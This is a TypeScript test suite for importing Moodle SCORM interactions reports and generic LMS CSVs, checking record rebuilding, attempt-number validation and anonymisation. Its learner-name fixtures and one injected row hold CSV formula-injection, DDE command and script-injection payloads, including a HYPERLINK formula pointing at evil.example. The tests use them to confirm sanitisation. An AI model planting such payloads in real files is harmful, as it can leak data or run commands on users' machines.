// Records rebuilt from an LMS's interactions: Moodle's interactions report as Moodle downloads it (layout
// from Moodle's source: test/fixtures/moodle-interactions.ts) and the generic interactions CSV. The
// interactions come from the real path: learner states made with the pages' own transitions, diffReport,
// and the SCORM adapters writing into scorm-again (a validating LMS runtime). The report made from them
// must equal the one made from the learners' own result files.
import { describe, expect, it } from 'vitest';
import { Scorm12API, Scorm2004API } from 'scorm-again';
import { importFiles } from '../../../src/lib/import/import.ts';
import type { ImportFile, ImportOptions, ImportResult } from '../../../src/lib/import/import-types.ts';
import { attemptNumber, interactionInstruments, interactionsLayout, isInteractionsCsv, moodleDate } from '../../../src/lib/import/lms-interactions.ts';
import { loadKnowledgeBanks } from '../../../src/lib/import/knowledge-files.ts';
import { buildDataset } from '../../../src/lib/analysis/dataset.ts';
import { analyzeDataset } from '../../../src/lib/analysis/report.ts';
import { exportAllFiles } from '../../../src/lib/analysis/export-all.ts';
import { renderReportHtml } from '../../../src/lib/analysis/export-html.ts';
import type { Report } from '../../../src/lib/analysis/report-types.ts';
import { signRecord } from '../../../src/lib/records/sign.ts';
import type { ResultRecord } from '../../../src/lib/records/result-record.ts';
import { attemptRecords, type Attempt } from '../../../src/lib/learner/learner-state.ts';
import { decodeField, diffReport, scormInteractions } from '../../../src/lib/scorm-cmi5/events.ts';
import { scorm12Adapter, type Scorm12Api } from '../../../src/lib/scorm-cmi5/scorm12.ts';
import { scorm2004Adapter, type Scorm2004Api } from '../../../src/lib/scorm-cmi5/scorm2004.ts';
import { emptyLog } from '../../../src/lib/scorm-cmi5/suspend-data.ts';
import { takeSnapshot, type ModuleSnapshot } from '../../../src/lib/scorm-cmi5/state.ts';
import { MODULE, moduleDictionary, moduleState, testClock, twoAttempts } from '../../fixtures/lms/course.ts';
import { interactionsFromCmi, moodleInteractionsReport, type MoodleInteraction, type MoodleUser } from '../../fixtures/moodle-interactions.ts';
import { analysedNumbers, importInteractionFiles, newestInstrument } from '../../fixtures/moodle-import.ts';

const dict = moduleDictionary();
const { instrument, hash } = newestInstrument();
const banks = loadKnowledgeBanks('content').banks;
const bankHash = banks.find((b) => b.moduleId === MODULE)!.hash;
const SALT = 'test-salt';

// ---- a cohort, made as the pages and the packages make it -----------------------------------------------

interface Learner {
  first: string;
  last: string;
  email: string;
  username: string;
  records: ResultRecord[];
  snapshot: ModuleSnapshot;
}

const CODES = ['MA-07-SA-2', 'JO-12-LI-0', 'LU-03-BE-1', 'PE-28-OS-3', 'TI-15-RO-0', 'AN-09-KA-4', 'SO-21-MU-1'];
// Names a spreadsheet would run, markup, quotes, tabs and letters beyond ASCII: none may reach any output.
const HOSTILE_NAMES: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1', 'Doeberg'],
  ['<script>alert(1)</script>', 'Roestraat'],
  ['María José', "O'Brien-Łukasz"],
  ["+cmd|' /C calc'!A0", '@SUM(1+1)'],
  ['Janestra', 'Tab\tHerewood'],
  ['Zoëlle', 'Quote "Quimby"'],
  ['Abernathy', 'Cadwallader'],
];

/** Every record of an attempt replaced by `f(record)`, re-signed as the pages sign it. */
function mapRecords(attempt: Attempt, f: (r: ResultRecord) => Omit<ResultRecord, 'checksum'>): Attempt {
  const steps = Object.fromEntries(Object.entries(attempt.steps).map(([k, p]) => [k, p.record ? { ...p, record: signRecord(f(p.record)) } : p]));
  return { ...attempt, steps };
}

function learner(n: number, options: { twoAttempts?: boolean; cohort?: string | null } = {}): Learner {
  const state = options.twoAttempts
    ? twoAttempts(dict)
    : moduleState(dict, { skipPre: n % 3 === 0 ? [n % 5] : [] }, testClock(`2026-11-${String(10 + n).padStart(2, '0')}T09:58:13.417Z`));
  const snapshot = takeSnapshot(state.learner, state.activity, MODULE);
  const vary = (r: ResultRecord): Omit<ResultRecord, 'checksum'> => {
    const { checksum: _, ...rest } = r;
    const shift = r.timepoint === 'post' ? n % 3 : 0;
    return {
      ...rest,
      participant: CODES[n]!,
      cohort: options.cohort === undefined ? (n % 2 ? 'Team A, north {2026} 100%' : null) : options.cohort,
      responses: Object.fromEntries(Object.entries(r.responses).map(([item, v], i) => [item, v === null ? null : ((v + shift + (i % (n + 1))) % 5) + 1])),
      knowledge: Object.fromEntries(
        Object.entries(r.knowledge ?? {}).map(([q, v], i) => [q, i === n % 4 && r.timepoint === 'pre' ? null : v === null ? null : (v + n) % 4]),
      ),
      knowledgeHashes: { [MODULE]: bankHash },
      demographics: Object.fromEntries(instrument.demographics.map((d, i) => [d.id, (i + n) % 4 === 0 ? null : d.options[(i + n) % d.options.length]!.value])),
    };
  };
  const progress = snapshot.progress!;
  const changed: ModuleSnapshot = {
    ...snapshot,
    progress: { current: mapRecords(progress.current, vary), archived: progress.archived.map((a) => mapRecords(a, vary)) },
  };
  const records = [...changed.progress!.archived, changed.progress!.current].flatMap(attemptRecords);
  const [first, last] = HOSTILE_NAMES[n]!;
  return { first, last, email: `learner.${n}@example.org`, username: `lmsuser${n}x`, records, snapshot: changed };
}

/** What the SCORM runtime holds after the package reported this learner's records (scorm-again as the LMS). */
async function lmsInteractions(l: Learner, runtime: 'scorm12' | 'scorm2004' = 'scorm12'): Promise<MoodleInteraction[]> {
  const report = diffReport(null, l.snapshot, emptyLog(), dict);
  const api = runtime === 'scorm12' ? new Scorm12API({ logLevel: 5 }) : new Scorm2004API({ logLevel: 5 });
  const adapter = runtime === 'scorm12' ? scorm12Adapter(api as unknown as Scorm12Api) : scorm2004Adapter(api as unknown as Scorm2004Api);
  await adapter.initialize();
  await adapter.reportInteractions(report.interactions, report.submitted);
  return interactionsFromCmi(JSON.parse(JSON.stringify(api.cmi)));
}

async function moodleUser(l: Learner, runtime: 'scorm12' | 'scorm2004' = 'scorm12'): Promise<MoodleUser> {
  const times = l.records.map((r) => r.completedAt).sort();
  return {
    firstname: l.first,
    lastname: l.last,
    email: l.email,
    username: l.username,
    attempts: [{ attempt: 1, start: new Date(l.records[0]!.startedAt), finish: new Date(times.at(-1)!), interactions: await lmsInteractions(l, runtime) }],
  };
}

const importAll = (files: readonly ImportFile[], options: ImportOptions = { idSalt: SALT }): ImportResult =>
  importInteractionFiles(files, instrument, hash, options);
const reportOf = (result: ImportResult): Report =>
  analyzeDataset(buildDataset(result, instrument), { knowledge: banks, generatedAt: '2026-12-01T00:00:00.000Z' });
const numbers = analysedNumbers;

const jsonFiles = (learners: readonly Learner[]): ImportFile[] => learners.map((l, i) => ({ name: `result-${i}.json`, text: JSON.stringify(l.records) }));

const cohort = Array.from({ length: 7 }, (_, n) => learner(n));

// ---- tests ---------------------------------------------------------------------------------------------

describe('recognising interactions files', () => {
  it("knows Moodle's report, the generic CSV and neither", () => {
    expect(isInteractionsCsv(['Name', 'Email address', 'Attempt', 'Started on', 'Last accessed on', 'Score', 'SCO', 'Question 0', 'Response 0'])).toBe(
      'moodle',
    );
    expect(isInteractionsCsv(['Name', 'Attempt', 'Started on', 'Last accessed on', 'Score', 'Response 0'])).toBe('moodle');
    expect(isInteractionsCsv(['Learner', 'Attempt', 'Interaction ID', 'Response', 'Time'])).toBe('generic');
    expect(isInteractionsCsv(['participant', 'timepoint', 'item', 'value'])).toBeNull();
    expect(isInteractionsCsv(['record_id', 'redcap_event_name', 'response'])).toBeNull();
    expect(interactionsLayout(`\ufeffName\tAttempt\tStarted on\tLast accessed on\tScore\tQuestion 0\tResponse 0\n`)).toBe('moodle');
    expect(interactionsLayout('learner;attempt;interaction_id;response;time\r\n')).toBe('generic');
    expect(interactionsLayout('participant,timepoint,item,value\n')).toBeNull();
    expect(interactionsLayout('[{"format":"msg-result-record"}]')).toBeNull();
  });

  it("reads Moodle's default date format as a local time", () => {
    expect(moodleDate('Thursday, 26 November 2026, 10:08 AM')).toBe('2026-11-26T10:08');
    expect(moodleDate('Friday, 4 December 2026, 12:05 AM')).toBe('2026-12-04T00:05');
    expect(moodleDate('Friday, 4 December 2026, 3:30 PM')).toBe('2026-12-04T15:30');
    expect(moodleDate('-')).toBeNull();
  });
});

describe("Moodle's interactions report", () => {
  it("gives the same report as the learners' result files, for a cohort with cohorts, skipped answers and a second attempt", async () => {
    // The last learner has the second learner's code and started the module again ("start again").
    const learners = [
      ...cohort,
      { ...learner(1, { twoAttempts: true }), first: 'Secondly', last: 'Againsworth', email: 'second@example.org', username: 'secondx' },
    ];
    const users = await Promise.all(learners.map((l) => moodleUser(l)));
    const text = moodleInteractionsReport([...users, { firstname: 'No', lastname: 'Attempt', email: 'none@example.org', attempts: [] }], {
      qtext: true,
      resp: true,
      result: true,
    });
    // PHP's fputcsv encloses every field that holds a space.
    expect(text.split('\n')[0]).toMatch(
      /^Name\t"Email address"\tAttempt\t"Started on"\t"Last accessed on"\tScore\t"Mutual support groups: what they are and what the evidence says"\t"Question 0"\t"Response 0"\t"Result 0"\t"Question 1"\t/,
    );
    const fromLms = importAll([{ name: 'CS101 Mutual support-20261201_0900-tab_separated.txt', text }]);
    const fromFiles = importFiles(jsonFiles(learners), instrument, hash);
    expect(fromLms.records).toHaveLength(2 * 7 + 4);
    expect(fromLms.problems.filter((p) => p.severity === 'error')).toEqual([]);
    expect(fromLms.records.every((r) => r.participantKind === 'code')).toBe(true);
    const byKey = (rs: ImportResult['records']) => rs.map((r) => `${r.participant} ${r.timepoint} ${r.attemptId} ${r.completedAt}`).sort();
    expect(byKey(fromLms.records)).toEqual(byKey(fromFiles.records));
    for (const r of fromLms.records) {
      const original = fromFiles.records.find(
        (o) => o.participant === r.participant && o.attemptId === r.attemptId && o.timepoint === r.timepoint && o.completedAt === r.completedAt,
      )!;
      expect(r).toMatchObject({
        module: original.module,
        cohort: original.cohort,
        startedAt: original.startedAt,
        knowledge: original.knowledge,
        knowledgeHashes: original.knowledgeHashes,
        demographics: original.demographics,
      });
      expect(r.responses).toEqual(Object.fromEntries(Object.entries(original.responses).filter(([, v]) => v !== null)));
    }
    expect(numbers(reportOf(fromLms))).toEqual(numbers(reportOf(fromFiles)));
    expect(reportOf(fromLms).sampleFlow.matched).toBeGreaterThanOrEqual(7);
    expect(fromLms.problems.map((p) => p.message)).toContainEqual(expect.stringMatching(/^1 row of this report is a learner without an attempt/));
  });

  it("reads a SCORM 2004 runtime's interactions listed the same way", async () => {
    const users = await Promise.all(cohort.slice(0, 3).map((l) => moodleUser(l, 'scorm2004')));
    const fromLms = importAll([{ name: 'report.txt', text: moodleInteractionsReport(users, { qtext: true }) }]);
    expect(numbers(reportOf(fromLms))).toEqual(numbers(reportOf(importFiles(jsonFiles(cohort.slice(0, 3)), instrument, hash))));
  });

  it('never copies names, e-mail addresses or user names into records, problems, the report or any export', async () => {
    const users = await Promise.all(cohort.map((l) => moodleUser(l)));
    // Old ids too: their records use the learner id (hashed) as the participant.
    const legacy = users.map((u, i) => ({
      ...u,
      username: `legacy.${i}`,
      email: `legacy.${i}@example.org`,
      attempts: u.attempts.map((a) => ({ ...a, interactions: a.interactions.filter((x) => /^[a-z]/.test(x.id)) })),
    }));
    const text = moodleInteractionsReport([...users, ...legacy], { identity: ['email', 'username'], qtext: true });
    const hostileRow = ["=cmd|' /C calc'!A0", '<script>x</script>', 'evil.user', '1', '-', '-', '0', 'Completed', '<script>alert(2)</script>', '=1+1'].join(
      '\t',
    );
    const result = importAll([{ name: 'report.txt', text: `${text}${hostileRow}\n` }]);
    const ds = buildDataset(result, instrument);
    const report = analyzeDataset(ds, { knowledge: banks });
    const everything = [JSON.stringify(result), JSON.stringify(report), ...Object.values(exportAllFiles(ds, report)), renderReportHtml(report, instrument)]
      .join('\n')
      .toLowerCase();
    for (const l of [...cohort, ...legacy.map((u) => ({ first: u.firstname, last: u.lastname, email: u.email!, username: u.username! }))]) {
      for (const secret of [l.first, l.last, l.email, l.username, `${l.first} ${l.last}`]) expect(everything, secret).not.toContain(secret.toLowerCase());
    }
    for (const secret of ['hyperlink(', '<script>alert', "/c calc'!a0", 'evil.user', 'example.org', 'josé', 'łukasz']) expect(everything).not.toContain(secret);
    // The old ids' records: participant = salted hash of the learner id, kind opaque.
    const opaque = result.records.filter((r) => r.participantKind === 'opaque');
    expect(opaque.length).toBe(cohort.reduce((n, l) => n + l.records.length, 0));
    expect(opaque.every((r) => /^lms-[0-9a-f]{16}$/.test(r.participant) && r.participantRaw === r.participant)).toBe(true);
    // The report says which kind of ids the file gave.
    expect(result.files).toEqual([
      { file: 'report.txt', format: 'moodle-interactions', records: 2 * opaque.length, codes: opaque.length, otherIds: opaque.length },
    ]);
    expect(result.problems.some((p) => p.line === users.length * 2 + 2 && p.severity === 'error')).toBe(true);
  });

  it('says what to tick when the report lacks the interaction ids, and reads Right answer and Result columns without using them', async () => {
    const users = await Promise.all(cohort.slice(0, 2).map((l) => moodleUser(l)));
    const withoutIds = importAll([{ name: 'defaults.txt', text: moodleInteractionsReport(users) }]);
    expect(withoutIds.counts.filesRejected).toBe(1);
    expect(withoutIds.problems[0]!.message).toMatch(/no "Question N" columns.*tick "Summary of question"/);
    const all = importAll([{ name: 'all.txt', text: moodleInteractionsReport(users, { qtext: true, resp: true, right: true, result: true }) }]);
    expect(all.records).toHaveLength(4);
    expect(all.problems.filter((p) => p.severity === 'error')).toEqual([]);
  });

  it("counts a record the LMS holds twice (two Moodle attempts) once, and keeps another instrument's records apart", async () => {
    const [user] = await Promise.all([moodleUser(cohort[2]!)]);
    const again = { ...user!.attempts[0]!, attempt: 2 };
    const other = {
      ...user!.attempts[0]!,
      attempt: 3,
      interactions: user!.attempts[0]!.interactions.map((x) => ({ ...x, id: x.id.replace(/_v\d+-\d+-\d+/, '_v9-0-0') })),
    };
    const result = importAll([
      { name: 'r.txt', text: moodleInteractionsReport([{ ...user!, attempts: [user!.attempts[0]!, again, other] }], { qtext: true }) },
    ]);
    expect(result.counts).toMatchObject({ recordsRead: 6, imported: 2, identicalCopies: 2, otherInstrument: 2 });
    expect(result.otherInstruments[0]).toMatchObject({ id: 'msg-attitudes', version: '9.0.0', count: 2 });
  });

  it('rebuilds what is there when interactions are missing, and reports what cannot be read', async () => {
    const [user] = await Promise.all([moodleUser(cohort[3]!)]);
    const list = user!.attempts[0]!.interactions;
    const firstItem = list.findIndex((x) => /^[a-z]/.test(x.id));
    const damaged: MoodleInteraction[] = list
      .filter((x) => !x.id.startsWith('K-') || x.id.includes('_post_')) // the pre knowledge answers lost
      .filter((_, i) => i !== firstItem) // one answer lost
      .map((x) => (x.id.startsWith('D-discipline') ? { ...x, response: 'astronaut' } : x)) // not an option
      .map((x) => (x.id.startsWith('R_post') ? { ...x, response: x.response.slice(0, 20) } : x)); // cut short
    damaged.push({ id: 'scorm_q1_other_package', response: 'b' }, { id: `${list[firstItem + 1]!.id}`, response: '9' });
    const result = importAll([
      { name: 'r.txt', text: moodleInteractionsReport([{ ...user!, attempts: [{ ...user!.attempts[0]!, interactions: damaged }] }], { qtext: true }) },
    ]);
    const pre = result.records.find((r) => r.timepoint === 'pre')!;
    const post = result.records.find((r) => r.timepoint === 'post')!;
    expect(pre.participant).toBe(CODES[3]);
    expect(pre.knowledge).toBeUndefined();
    expect(Object.keys(pre.responses)).not.toContain(list[firstItem]!.id.split('_')[0]);
    expect(pre.demographics.discipline).toBeNull();
    // The post record's own interaction was cut short: its participant is the hashed learner id.
    expect(post).toMatchObject({ participantKind: 'opaque' });
    const messages = result.problems.map((p) => p.message).join('\n');
    expect(messages).toMatch(/was not written by this course's packages \(or the LMS cut its id short\) \(Question \d+\); not used/);
    expect(messages).toMatch(/a second, different response to interaction/);
    expect(messages).toMatch(/the record interaction .* cannot be read; the LMS learner id is used/);
    expect(messages).toMatch(/"astronaut" to background question "discipline" set aside/);
    expect(messages).not.toMatch(/example\.org|lmsuser|Quimby|PE-28/);
  });

  it('SCORM 1.2 limits: ids and responses stay within 255 characters, and an id the LMS cut short is not misread', () => {
    const [pre] = cohort[1]!.records;
    const long = signRecord({
      ...(({ checksum: _, ...x }) => x)(pre!),
      participant: 'X'.repeat(40),
      module: 'm'.repeat(100),
      attemptId: 'a'.repeat(100),
      cohort: ',{}% '.repeat(12) + 'end',
    });
    const out = scormInteractions([], [long]);
    expect(out.every((i) => i.id.length <= 255 && i.response.length <= 255 && /^[\u0021-\u007e]+$/.test(i.id))).toBe(true);
    expect(out.every((i) => i.type === 'likert' || (!i.response.includes(',') && !i.response.startsWith('{')))).toBe(true);
    expect(decodeField(out.find((i) => i.id.startsWith('C_'))!.response)).toBe(long.cohort);
    const fields = out[0]!.response.split(' ').map(decodeField);
    expect(fields).toEqual([long.participant, long.module, long.startedAt, long.completedAt, 'a'.repeat(36)]);
    // An LMS that keeps only the first 20 characters of an id: not a record's interaction any more.
    const cut = out.map((i) => ({ id: i.id.slice(0, 20), response: i.response }));
    const result = importAll([
      {
        name: 'cut.txt',
        text: moodleInteractionsReport(
          [{ firstname: 'A', lastname: 'B', email: 'a@b.example', attempts: [{ attempt: 1, start: new Date(), finish: new Date(), interactions: cut }] }],
          { qtext: true },
        ),
      },
    ]);
    expect(result.records).toEqual([]);
    expect(result.counts.valuesRejected).toBe(cut.length);
  });
});

describe('generic interactions CSV', () => {
  const rows = async (learners: readonly Learner[]) => {
    const out: string[][] = [];
    for (const [n, l] of learners.entries())
      for (const i of await lmsInteractions(l)) out.push([`learner-${n}@example.org`, '1', i.id, i.response, l.records[0]!.completedAt, MODULE]);
    return out;
  };
  const csv = (header: string[], data: string[][]) =>
    [header, ...data].map((r) => r.map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n');

  it("gives the same report as the result files, in the LMS's order or sorted by interaction id", async () => {
    const data = await rows(cohort);
    const expected = numbers(reportOf(importFiles(jsonFiles(cohort), instrument, hash)));
    const header = ['learner', 'attempt', 'interaction_id', 'response', 'time', 'module'];
    expect(numbers(reportOf(importAll([{ name: 'lms.csv', text: csv(header, data) }])))).toEqual(expected);
    const sorted = [...data].sort((a, b) => (a[0]! + a[2]!).localeCompare(b[0]! + b[2]!));
    expect(numbers(reportOf(importAll([{ name: 'sorted.csv', text: csv(header, sorted) }])))).toEqual(expected);
  });

  it('reads old ids with the module column; the learner id, hashed with the salt, is the participant', async () => {
    const data = (await rows(cohort.slice(0, 2))).filter((r) => /^[a-z]/.test(r[2]!));
    const text = csv(
      ['Learner', 'Attempt', 'Interaction ID', 'Response', 'Time', 'Module', 'Email'],
      data.map((r) => [...r, r[0]!]),
    );
    const result = importAll([{ name: 'old.csv', text }]);
    expect(result.records).toHaveLength(4);
    expect(result.records.every((r) => r.participantKind === 'opaque' && r.module === MODULE && r.completedAt !== null)).toBe(true);
    expect(new Set(result.records.map((r) => r.participant)).size).toBe(2);
    expect(result.problems.map((p) => p.message)).toContainEqual('column "email" not used');
    expect(reportOf(result).sampleFlow.matched).toBe(2);
    // Same salt, same ids; another salt or a random one (no salt given), other ids.
    const again = importAll([{ name: 'old.csv', text }]);
    expect(again.records.map((r) => r.participant)).toEqual(result.records.map((r) => r.participant));
    const other = importAll([{ name: 'old.csv', text }], {});
    expect(other.records.map((r) => r.participant)).not.toContain(result.records[0]!.participant);
    expect(new Set(other.records.map((r) => r.participant)).size).toBe(2);
    expect(JSON.stringify([result, other])).not.toMatch(/example\.org/);
  });

  it('names the line of a row it cannot use, and lists the instruments the ids name', async () => {
    const data = await rows(cohort.slice(0, 1));
    const text = csv(
      ['learner', 'attempt', 'interaction_id', 'response', 'time'],
      [
        ...data.map((r) => r.slice(0, 5)),
        ['', '1', 'x', '1', ''],
        ['someone@example.org', '1', '', '1', ''],
        ['someone@example.org', '1', `att-12-helpful_pre_msg-attitudes_v${dict.instrument.version.replace(/\./g, '-')}`, 'five', ''],
      ],
    );
    const result = importAll([{ name: 'bad.csv', text }]);
    const lines = data.length + 2;
    expect(result.problems.filter((p) => p.severity === 'error').map((p) => [p.line, p.message])).toEqual([
      [lines, 'the learner is empty; row not used'],
      [lines + 1, 'the interaction id is empty; row not used'],
      [lines + 2, 'response "five" to item "att-12-helpful" is not a whole number; row not used'],
    ]);
    expect(result.counts.csvRowsRejected).toBe(3);
    expect(interactionInstruments(text, 'generic')).toEqual([{ id: dict.instrument.id, version: dict.instrument.version, records: data.length + 1 }]);
  });
});

describe('LMS attempt numbers', () => {
  const header = ['learner', 'attempt', 'interaction_id', 'response', 'time', 'module'];
  const csv = (data: string[][]) => [header, ...data].map((r) => r.map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n');
  const generic = async (learners: readonly Learner[]) => {
    const out: string[][] = [];
    for (const [n, l] of learners.entries())
      for (const i of await lmsInteractions(l)) out.push([`learner-${n}@example.org`, '1', i.id, i.response, l.records[0]!.completedAt, MODULE]);
    return out;
  };
  const keys = (r: ImportResult) => r.records.map((x) => `${x.participant} ${x.timepoint} ${x.attemptId} ${JSON.stringify(x.responses)}`);

  it('attempt numbers are checked in attemptNumber: a whole number from 1; leading zeros are the same attempt', () => {
    expect(['1', '01', '007', ' 2 ', '123456789'].map(attemptNumber)).toEqual(['1', '1', '7', '2', '123456789']);
    expect(['abc', '-1', '1.5', '', '1e3', '0', '00', '+1', '1,0', '1234567890'].map(attemptNumber)).toEqual(Array(10).fill(null));
  });

  it('generic CSV: a row whose attempt is not a number from 1 is an error naming its line, left out, the rest kept; "01" is attempt 1', async () => {
    const data = await generic(cohort.slice(0, 2));
    const base = importAll([{ name: 'lms.csv', text: csv(data) }]);
    expect(base.records).toHaveLength(4);
    // One learner's rows written partly "01", partly "1": one attempt, the same records.
    const mixed = data.map((r, i) => (r[0] === 'learner-1@example.org' && i % 2 ? [r[0], '01', ...r.slice(2)] : r));
    const padded = importAll([{ name: 'lms.csv', text: csv(mixed) }]);
    expect(keys(padded)).toEqual(keys(base));
    expect(padded.problems.filter((p) => p.severity === 'error')).toEqual([]);
    const bad = ['abc', '-1', '1.5', '', '1e3', '0'];
    // A bad attempt in the middle of a learner's rows: that row alone is left out.
    const at = (a: string) => {
      const rows = [...data];
      rows.splice(3, 1, [data[3]![0]!, a, ...data[3]!.slice(2)]);
      return importAll([{ name: 'lms.csv', text: csv(rows) }]);
    };
    for (const a of bad) {
      const r = at(a);
      expect(
        r.problems.filter((p) => p.severity === 'error').map((p) => [p.file, p.line, p.message]),
        a,
      ).toEqual([
        ['lms.csv', 5, a === '' ? 'the attempt is empty; row not used' : `the attempt "${a}" is not an attempt number (a whole number from 1); row not used`],
      ]);
      expect(r.counts.csvRowsRejected).toBe(1);
      expect(r.records).toHaveLength(4);
    }
    // All of them after the good rows: the rest is kept as it was; the lines of each are named.
    const hostile = importAll([{ name: 'lms.csv', text: csv([...data, ...bad.map((a) => [data[0]![0]!, a, ...data[0]!.slice(2)])]) }]);
    expect(keys(hostile)).toEqual(keys(base));
    expect(hostile.counts.csvRowsRejected).toBe(bad.length);
    const first = data.length + 2;
    expect(hostile.problems.filter((p) => p.severity === 'error').map((p) => p.message)).toEqual([
      `5 rows: the attempt is not an attempt number (a whole number from 1); row not used. First at line ${first}: the attempt "abc" is not an attempt number (a whole number from 1); row not used; then lines ${first + 1}, ${first + 2}, ${first + 4}, ${first + 5}`,
      'the attempt is empty; row not used',
    ]);
  });

  it("Moodle's report: the same rules; a learner listed without an attempt is still only counted", async () => {
    const users = await Promise.all(cohort.slice(0, 3).map((l) => moodleUser(l)));
    const text = (attempts: unknown[]) =>
      moodleInteractionsReport(
        [
          ...users.map((u, i) => ({ ...u, attempts: u.attempts.map((a) => ({ ...a, attempt: (attempts[i] ?? a.attempt) as number })) })),
          { firstname: 'No', lastname: 'Attempt', email: 'none@example.org', attempts: [] },
        ],
        { qtext: true },
      );
    const base = importAll([{ name: 'r.txt', text: text([]) }]);
    expect(base.records).toHaveLength(6);
    expect(keys(importAll([{ name: 'r.txt', text: text(['01', '0002']) }]))).toEqual(keys(base));
    const bad = importAll([{ name: 'r.txt', text: text(['1.5', '-', 'abc']) }]);
    expect(bad.records).toEqual([]);
    expect(bad.problems.filter((p) => p.severity === 'error').map((p) => [p.line, p.message])).toEqual([
      [2, 'the attempt "1.5" is not an attempt number (a whole number from 1); row not used'],
      [3, 'the attempt "-" is not an attempt number (a whole number from 1); row not used'],
      [4, 'the attempt "abc" is not an attempt number (a whole number from 1); row not used'],
    ]);
    expect(bad.problems.map((p) => p.message)).toContainEqual(expect.stringMatching(/^1 row of this report is a learner without an attempt/));
  });
});
